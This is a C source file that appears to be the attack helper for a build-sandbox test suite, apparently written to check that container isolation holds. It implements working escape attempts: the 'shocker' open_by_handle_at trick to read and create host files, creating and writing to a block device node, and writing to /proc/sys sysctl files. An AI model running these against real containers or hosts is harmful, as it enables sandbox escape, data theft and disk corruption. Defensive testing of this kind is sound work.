/* The attacks of attacks/builds.rs, run as a build step or a trace probe. Compiled on the
 * host with `cc -static`. Every outcome is printed as `WHAT: ok` or `WHAT: errno=NAME`, so
 * the test can tell that the attack ran and how the kernel answered.
 *
 *   attack status                       uid_map, gid_map and the id/capability/seccomp lines
 *   attack handle PATH                  (on the host) the file handle of PATH: TYPE HEX
 *   attack shocker DIR TYPE HEX READ CREATE
 *                                       open_by_handle_at(DIR, handle): then read READ and
 *                                       create CREATE relative to the directory it opened
 *   attack mknod PATH MAJOR MINOR       a block device node, then read it and write to it
 *   attack sysctl PATH VALUE            write VALUE to a /proc/sys file
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static void say(const char *what, int r) {
    if (r < 0)
        printf("%s: errno=%s\n", what, strerrorname_np(errno));
    else
        printf("%s: ok\n", what);
    fflush(stdout);
}

static void cat(const char *path, const char *prefix, int filter) {
    char line[512];
    FILE *f = fopen(path, "r");
    if (!f) {
        say(path, -1);
        return;
    }
    while (fgets(line, sizeof line, f)) {
        if (!filter || strstr(line, "Cap") == line || strstr(line, "Uid:") == line ||
            strstr(line, "Gid:") == line || strstr(line, "Seccomp:") == line ||
            strstr(line, "NoNewPrivs:") == line)
            printf("%s%s", prefix, line);
    }
    fclose(f);
    fflush(stdout);
}

static int hexval(char c) {
    return c <= '9' ? c - '0' : (c | 0x20) - 'a' + 10;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "status")) {
        printf("STATUS START\n");
        cat("/proc/self/uid_map", "uid_map:", 0);
        cat("/proc/self/gid_map", "gid_map:", 0);
        cat("/proc/self/status", "", 1);
        printf("STATUS END\n");
        return 0;
    }
    if (argc == 3 && !strcmp(argv[1], "handle")) {
        struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
        int mnt;
        h->handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, argv[2], h, &mnt, 0) < 0) {
            perror("name_to_handle_at");
            return 1;
        }
        printf("%d ", h->handle_type);
        for (unsigned i = 0; i < h->handle_bytes; i++)
            printf("%02x", h->f_handle[i]);
        printf("\n");
        return 0;
    }
    if (argc == 7 && !strcmp(argv[1], "shocker")) {
        printf("SHOCKER START\n");
        fflush(stdout);
        size_t n = strlen(argv[4]) / 2;
        struct file_handle *h = calloc(1, sizeof *h + n);
        h->handle_type = atoi(argv[3]);
        h->handle_bytes = n;
        for (size_t i = 0; i < n; i++)
            h->f_handle[i] = hexval(argv[4][2 * i]) << 4 | hexval(argv[4][2 * i + 1]);
        int dir = open(argv[2], O_RDONLY | O_DIRECTORY);
        say("open mount dir", dir);
        int root = open_by_handle_at(dir, h, O_RDONLY | O_DIRECTORY);
        say("open_by_handle_at", root);
        if (root >= 0) {
            char buf[256];
            int fd = openat(root, argv[5], O_RDONLY);
            say("open host file", fd);
            ssize_t got = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
            if (got >= 0) {
                buf[got] = 0;
                printf("READ: %s\n", buf);
            }
            int c = openat(root, argv[6], O_CREAT | O_EXCL | O_WRONLY, 0644);
            say("create host file", c);
        }
        printf("SHOCKER END\n");
        return 0;
    }
    if (argc == 5 && !strcmp(argv[1], "mknod")) {
        printf("MKNOD START\n");
        fflush(stdout);
        int r = mknod(argv[2], S_IFBLK | 0600, makedev(atoi(argv[3]), atoi(argv[4])));
        say("mknod", r);
        if (r == 0) {
            char buf[64] = {0};
            int fd = open(argv[2], O_RDWR);
            say("open device", fd);
            if (fd >= 0) {
                ssize_t got = read(fd, buf, sizeof buf - 1);
                say("read device", got);
                if (got > 0)
                    printf("READ: %.*s\n", (int)strcspn(buf, "\n"), buf);
                say("write device", pwrite(fd, "pwned by a build step\n", 22, 0));
                fsync(fd);
                close(fd);
            }
            unlink(argv[2]);
        }
        printf("MKNOD END\n");
        return 0;
    }
    if (argc == 4 && !strcmp(argv[1], "sysctl")) {
        printf("SYSCTL START\n");
        fflush(stdout);
        int fd = open(argv[2], O_WRONLY);
        say("open sysctl", fd);
        if (fd >= 0)
            say("write sysctl", write(fd, argv[3], strlen(argv[3])));
        printf("SYSCTL END\n");
        return 0;
    }
    fprintf(stderr, "usage: see attack.c\n");
    return 2;
}
